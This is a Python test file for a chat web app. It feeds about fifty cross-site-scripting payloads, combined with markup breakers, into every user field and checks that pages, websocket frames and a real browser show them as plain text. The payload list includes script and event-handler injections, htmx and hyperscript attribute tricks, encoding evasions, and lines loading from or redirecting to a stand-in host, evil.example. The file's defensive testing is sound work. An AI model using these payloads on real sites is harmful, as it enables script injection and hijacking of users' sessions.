"""What people write is text: three hundred attacks in every field, on the page and on the socket,
parsed here and shown to a real browser."""
import asyncio
import html.parser
import random
import re
import uuid

import pytest

import biff
from plugins import permalinks, places
from plugins.names import Author
from people import LINK, chat, person      # noqa: F401
from store import evict, put

PAYLOADS = 300
BREAKERS = ["", '">', "'>", "</p>", "</b></article>", "</textarea>", "</title>", "</a></li></ul>", "-->", "</script>",
            "</style>", "&quot;>", '\u2028">', "\ufeff</h1>"]
ACTIVE = [
    "<script>window.pwned=1</script>", "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=window.pwned=1>", "<svg/onload=window.pwned=1>",
    '<body onload="window.pwned=1">', '<iframe src="javascript:parent.pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<a href="javascript:window.pwned=1" autofocus>x</a>', "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<video><source onerror=window.pwned=1></video>", "<xss tabindex=1 onfocus=window.pwned=1 autofocus>x</xss>",
    '<object data="javascript:window.pwned=1"></object>',
    "<template shadowrootmode=open><script>window.pwned=1</script></template>",
    "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
    '<b _="on load set window.pwned to 1">x</b>', '<b _="init set window.pwned to 1">x</b>',
    '<b script="init set window.pwned to 1">x</b>',
    '<b data-script="init set window.pwned to 1">x</b>', '<script type="text/hyperscript">init set window.pwned to '
                                                         '1</script>',
    '<i hx-get="/pwned" hx-trigger="load">x</i>', '<i data-hx-get="/pwned" data-hx-trigger="load">x</i>',
    '<i hx-on:load="window.pwned=1" hx-get="/pwned">x</i>',
    '<i hx-ws:connect="/pwned">x</i>', '<div id="messages" hx-swap-oob="innerHTML">gone</div>',
    '<p id="cursor" hx-swap-oob="delete"></p>',
    '<hx-partial hx-target="#messages" hx-swap="innerHTML">gone</hx-partial>',
    '<form action="https://evil.example"><input name=x><button>Send</button></form>',
    '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>', "<!--", "<![CDATA[", "<?php 1 ?>",
    '" onmouseover="window.pwned=1" x="', "' autofocus onfocus='window.pwned=1",
    '" _="init set window.pwned to 1" x="', '" hx-get="/pwned" hx-trigger="load" x="', "` onfocus=window.pwned=1",
    "{{ 7 * 7 }}", "{% raw %}", "${7*7}", "&lt;script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;", "%3Cscript%3Ewindow.pwned=1%3C/script%3E", "\uff1cscript\uff1e",
    "<scr\u0000ipt>", "<\u017fcript>window.pwned=1</script>",
    "\u202e<script>\u202c", "<img\u00a0src=x\u00a0onerror=window.pwned=1>", "<img\x0bsrc=x\x0conerror=window.pwned=1>",
    "{\"swap\": \"innerHTML\"}",
]
WORD = re.compile(r"w(\d+)w")
CHANGING = re.compile(r'(?<=name="post" value=")[^"]+|(?<=id="cursor" '
                      r'value=")\d+|(?<=\?after=)\d+|(?<=id=")message-[^"]+|(?<=\?before=)[^"]+|'
                      r'(?<=data-tx=")\d+|(?<=data-said=")\d+|(?<=id=")(?:new|gone)-[^"]+|'
                      r' dir="auto"')                              # stands only where a text needs it


@pytest.fixture
def payloads(seed):
    """All attacks behind all ways out of an attribute or element, by lot. Each ends in its number, so that none is
    part of another."""
    every = [breaker + active for breaker in BREAKERS for active in ACTIVE]
    return [f"{attack} {number}." for number, attack in enumerate(random.Random(seed).sample(every, PAYLOADS))]


class Tree(html.parser.HTMLParser):
    """The parts of a page in order: elements with attributes and values, texts, comments. An address that is a link
    to itself is text."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.parts = []
        self.feed(CHANGING.sub("", LINK.sub(r"\1", page)))
        self.close()

    def handle_starttag(self, tag, attributes):
        self.parts.append((tag, *attributes))

    def handle_endtag(self, tag):
        self.parts.append(("/", tag))

    def handle_data(self, data):
        if self.parts and self.parts[-1][0] == "text":
            data = self.parts.pop()[1] + data
        self.parts.append(("text", data))

    def handle_comment(self, data):
        self.parts.append(("comment", data))

    handle_decl = handle_pi = unknown_decl = handle_comment


def tree(page, words=()):
    """The parts of a page. With `words`, the parts that it should have once each w7w in it is words[7]."""
    def told(value):
        return WORD.sub(lambda found: words[int(found[1])], value) if words and value else value
    return [(part[0], *((name, told(value)) for name, value in part[1:])) if part[0] not in ("text", "comment", "/")
            else (part[0], told(part[1]))
            for part in Tree(page).parts]


class Fields:
    """Every field that people fill in, in the store, and every page and frame that shows it."""

    def __init__(self, chat, ann, eve, paths):
        self.chat, self.ann, self.eve, (self.community, self.channel) = chat, ann, eve, paths
        db = chat["biff/node"].db()
        self.mem, = db.q({"find": "?m", "where": [["?m", "mem/roles", "admin"]]})
        self.user = db.entity(db.entity(self.mem)["mem/user"])
        self.session = db.q({"find": ("pull", "?s", ["*"]), "in": ["?u"], "where": [["?s", "session/user", "?u"]]},
                            self.user["xt/id"])[0]
        self.posts = [uuid.uuid4() for _ in range(PAYLOADS)]
        self.at = biff.now(chat).replace(hour=1, minute=0, second=0, microsecond=0)     # one day, also at midnight

    async def write(self, comm="w0w", chan="w1w", email="w2w", agent="w3w", text="w4w"):
        node, channel = self.chat["biff/node"], id_of(self.channel)
        await node.submit([put({"xt/id": id_of(self.community), "comm/title": comm}),
                           put({"xt/id": channel, "chan/title": chan, "chan/comm": id_of(self.community)}),
                           put(self.user | {"user/email": email}), put(self.session | {"session/agent": agent}),
                           put(self.message(0, text))])

    async def submit(self, operations):
        """In transactions of a size that is told message by message; beyond, the whole list is sent anew."""
        for start in range(0, len(operations), 60):
            await self.chat["biff/node"].submit(operations[start:start + 60])

    def message(self, number, text):
        return {"xt/id": self.posts[number], "msg/mem": self.mem, "msg/text": text, "msg/channel": id_of(self.channel),
                "msg/created-at": self.at}

    async def pages(self, email="w5w"):
        """The text of every page on which something of it stands."""
        shown = [await one.get(path) for one, path in [(self.ann, self.channel), (self.ann, self.community),
                                                       (self.eve, self.community), (self.ann, "/sessions")]]
        shown += [await self.eve.get(path, params={"email": email, "error": email})
                  for path in ("/link-sent", "/verify-code", "/signin", "/")]
        return [page.body_text for page in shown]


def id_of(path):
    return uuid.UUID(path.rpartition("/")[2])


@pytest.fixture
async def fields(chat, person, monkeypatch):      # noqa: F811
    monkeypatch.setattr(biff.requests, "READS_A_PERSON", (10 ** 6, 60))
    ann, eve = await person("ann@example.com"), await person("eve@example.com")
    return Fields(chat, ann, eve, await ann.new_channel())


async def active_on_pages(fields, payloads):
    """The attacks that are anything but text on some page, each in another field by turns; and how many trees were
    compared."""
    await fields.write()
    plain, found, compared = await fields.pages(), set(), 0
    for n in range(len(payloads)):
        words = [payloads[(n + k * 50) % len(payloads)] for k in range(6)]
        await fields.write(*words[:5])
        for before, after in zip(plain, await fields.pages(words[5]), strict=True):
            compared += 1
            if tree(before, words) != tree(after):
                found.add(payloads[n])
    return found, compared


async def frames_of(fields, words):
    """The frames that an open page gets when these messages are written, then edited, when titles change, and when
    it comes back from far behind."""
    node, texts = fields.chat["biff/node"], words[:PAYLOADS]
    await node.submit([evict(id) for id in fields.posts])
    await fields.write("community", "channel")
    await node.submit([evict(fields.posts[0])])
    socket = await fields.ann.listen(fields.channel)
    await fields.submit([put(fields.message(n, text)) for n, text in enumerate(texts)])
    await fields.submit([put(fields.message(n, text + "!")) for n, text in enumerate(texts)])
    await fields.write(*words[-5:-1], text=texts[0])
    frames = ""
    while frames.count("<article") < 2 * len(texts) + 1:
        frames += await frame_of(socket)
    await socket.close()
    late = await fields.ann.listen(fields.channel, 10 ** 14)           # a cursor of no transaction: the list comes anew
    anew = await frame_of(late)
    await late.close()
    return [frames, anew]


async def frame_of(socket):
    """The next frame that changes the page: not the word that the line is alive."""
    while (frame := await socket.receive_str(timeout=60)) == "{}":
        pass
    return frame


async def active_on_sockets(fields, payloads, monkeypatch):
    """How many frames differ from those with harmless words in more than these words; and how many messages were in
    them."""
    monkeypatch.setattr(places, "PAGE_MESSAGES", PAYLOADS)
    words = payloads + payloads[7:12]
    plain = await frames_of(fields, [f"w{n}w" for n in range(len(words))])
    hostile = await frames_of(fields, words)
    assert all('id="heading"' in frame for frame in plain)
    active = sum(tree(before, words) != tree(after) for before, after in zip(plain, hostile, strict=True))
    return active, "".join(plain).count("<article")


async def test_three_hundred_attacks_in_every_field_are_text_on_every_page(fields, payloads, say):
    """An attack that is not text runs in the browser of everybody who reads it, with their rights."""
    found, compared = await active_on_pages(fields, payloads)
    say(f"{len(payloads)} payloads × 6 fields, {compared} pages parsed and compared: {len(found)} active; asked 0")
    assert compared > 2_000 and not found


async def test_three_hundred_attacks_are_text_on_the_socket(fields, payloads, say, monkeypatch):
    """A fragment is rendered outside a request: there, escaping is easily forgotten."""
    found, compared = await active_on_sockets(fields, payloads, monkeypatch)
    say(f"{len(payloads)} payloads, new, edited and listed anew, and titles: {compared} messages in frames parsed and "
        f"compared: {found} frames active; asked 0")
    assert compared > 3 * PAYLOADS and not found


async def test_without_escaping_both_tests_fail(fields, payloads, monkeypatch):
    """A test proves nothing if it finds nothing when there is something."""
    fields.chat["biff/jinja"].autoescape = False
    fields.chat["biff/jinja"].cache.clear()
    found, _ = await active_on_pages(fields, payloads[:40])
    assert len(found) > 30
    found, _ = await active_on_sockets(fields, payloads, monkeypatch)
    assert found == 2


# ── In a real browser ────────────────────────────────────────────────────────────────────────────────────────

SWEEP = """() => ({
  pwned: window.pwned ?? null,
  foreign: [...document.querySelectorAll('#messages .message *')].filter(
      one => !['HEADER', 'I', 'B', 'TIME', 'P'].includes(one.tagName)
      && !(one.matches('p > a[rel="nofollow noopener noreferrer"]') && /^https?:\\/\\/[^\\s]+$/.test(one.textContent)
           && one.getAttribute('href') === one.textContent
           && one.attributes.length === 3 && one.children.length === 0)).length
    + document.querySelectorAll('iframe, object, embed, base, svg[onload], img[onerror], #messages [_], ' +
                                '#messages [hx-get], nav [_], style, meta[http-equiv]').length,
  messages: document.querySelectorAll('#messages > .message').length,
  texts: [...document.querySelectorAll('#messages .message p')].map(one => one.textContent),
  channels: [...document.querySelectorAll('nav .channels a')].map(one => one.textContent),
})"""


async def shown_to_a_browser(fields, payloads, window, allow=()):
    """All attacks at once as messages, as titles beside them, and as frames to the open page. Returns what the
    browser made of them."""
    page, asked = await window(allow=allow), []
    titles = [put({"xt/id": uuid.uuid4(), "chan/title": text, "chan/comm": id_of(fields.community)})
              for text in payloads]
    await fields.submit([put(fields.message(n, text)) for n, text in enumerate(payloads)] + titles)
    await fields.write(*payloads[1:4], "agent", payloads[0])
    page.on("request", lambda request: asked.append(request.url))
    await page.context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": fields.ann.base}
                                    for cookie in fields.ann.browser.cookie_jar])
    await page.goto(fields.ann.base + fields.channel)
    await page.wait_for_selector("#messages[data-live]", state="attached")
    late = [uuid.uuid4() for _ in payloads]
    await fields.submit([put(fields.message(n, text) | {"xt/id": id})
                         for n, (id, text) in enumerate(zip(late, payloads))])
    await fields.submit([put(fields.message(n, text + " edited")) for n, text in enumerate(payloads)])
    await page.wait_for_function("""n => document.querySelectorAll("#messages .message").length >= 2 * n &&
        [...document.querySelectorAll("#messages .message p")].filter(one => one.textContent.endsWith(" edited")).length
        >= n""", arg=len(payloads))
    await asyncio.sleep(0.2)
    return await page.evaluate(SWEEP), asked


def as_shown(text):
    return text.replace("\0", "")                # the store takes any character; a browser passes over this one


async def test_three_hundred_attacks_at_once_do_nothing_in_a_real_browser(fields, payloads, window, say, monkeypatch):
    """A browser reads markup as no parser of ours does."""
    monkeypatch.setattr(places, "PAGE_MESSAGES", PAYLOADS), monkeypatch.setattr(permalinks, "SHOWN_MAX", 3 * PAYLOADS)
    seen, asked = await shown_to_a_browser(fields, payloads, window)
    foreign = [url for url in asked if not url.startswith(fields.ann.base) or "pwned" in url]
    say(f"{len(payloads)} payloads as messages, live messages and titles in Chromium: pwned is {seen['pwned']}, "
        f"{seen['foreign']} elements not ours, {len(foreign)} requests; asked none")
    assert seen["pwned"] is None and seen["foreign"] == 0 and foreign == []
    assert seen["texts"] == [as_shown(text) + " edited" for text in payloads] + [as_shown(text) for text in payloads]
    assert sorted(seen["channels"]) == sorted(as_shown(text) for text in [payloads[2], *payloads])


async def test_without_escaping_a_browser_runs_them(fields, payloads, window, monkeypatch):
    """The policy alone does not stop hyperscript and htmx. Escaping is the wall, and this test sees when it is gone."""
    monkeypatch.setattr(places, "PAGE_MESSAGES", PAYLOADS)
    page = await window(allow=[""])
    fields.chat["biff/jinja"].autoescape = False
    fields.chat["biff/jinja"].cache.clear()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    await fields.write(comm='</a><b _="init set window.pwned to 1">x</b><i hx-get="/pwned" hx-trigger="load">x</i>')
    await page.context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": fields.ann.base}
                                    for cookie in fields.ann.browser.cookie_jar])
    await page.goto(fields.ann.base + fields.channel)
    await page.wait_for_function("() => window.pwned === 1")
    assert any("/pwned" in url for url in asked)


async def test_the_second_wall_holds_where_people_write(fields, window, monkeypatch):
    """If a message were ever rendered with markup in it, htmx and hyperscript would still pass over it."""
    page = await window(allow=[""])
    fields.chat["biff/jinja"].autoescape = False
    fields.chat["biff/jinja"].cache.clear()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    # no quote that ends an attribute
    attack = "<b _='init set window.pwned to 1'>x</b><i hx-get=/pwned hx-trigger=load>x</i>"
    await fields.write(comm=attack, chan=attack, email=attack, text=attack)
    await page.context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": fields.ann.base}
                                    for cookie in fields.ann.browser.cookie_jar])
    await page.goto(fields.ann.base + fields.channel)
    await page.wait_for_selector("#messages[data-live]", state="attached")
    await page.wait_for_selector("#messages .message i")
    await asyncio.sleep(0.3)
    assert await page.evaluate("window.pwned ?? null") is None and not any("/pwned" in url for url in asked)


async def test_attacks_in_reports_drafts_and_digests_are_text(fields, payloads):
    """What is reported is the worst that people write, and it is shown to those who have most rights."""
    node, compared = fields.chat["biff/node"], 0
    await fields.write("community", "channel", "ann@example.com", "agent", "text")

    async def reports_page(texts):
        await fields.submit([put(fields.message(n, text)) for n, text in texts])
        common = {"report/comm": id_of(fields.community), "report/channel": id_of(fields.channel),
                  "report/mem": fields.mem, "report/at": fields.message(0, "")["msg/created-at"],
                  "report/tx": node.latest_tx.tx_id}
        await fields.submit([put(common | {"xt/id": uuid.UUID(int=n + 1), "report/msg": fields.posts[n],
                                           "report/reason": text}) for n, text in texts])
        return (await fields.ann.get(f"{fields.community}/reports")).body_text
    for start in range(0, PAYLOADS, 50):
        plain = await reports_page([(n, f"w{n}w") for n in range(start, start + 50)])
        attacked = await reports_page([(n, payloads[n]) for n in range(start, start + 50)])
        assert plain.count('class="report"') == 50 and tree(plain, payloads) == tree(attacked)
        compared += 50

    def others(text):
        line = {"author": Author(text, "x", "0"), "channel": {"chan/title": text}, "path": "/", "text": text}
        parts = [{"community": {"comm/title": text}, "calls": [line], "directs": [line],
                  "counts": [({"chan/title": text}, 1)]}]
        mail = {"parts": parts, "link": "/", "every": "day", "path_of": lambda channel: "/"}
        return (biff.fragment(fields.chat, "drafts/draft.html", draft_at="", draft_text=text)
                + biff.fragment(fields.chat, "mail/digest.html", **mail))
    for text in payloads:
        assert tree(others("w0w"), [text]) == tree(others(text))
    assert compared == PAYLOADS
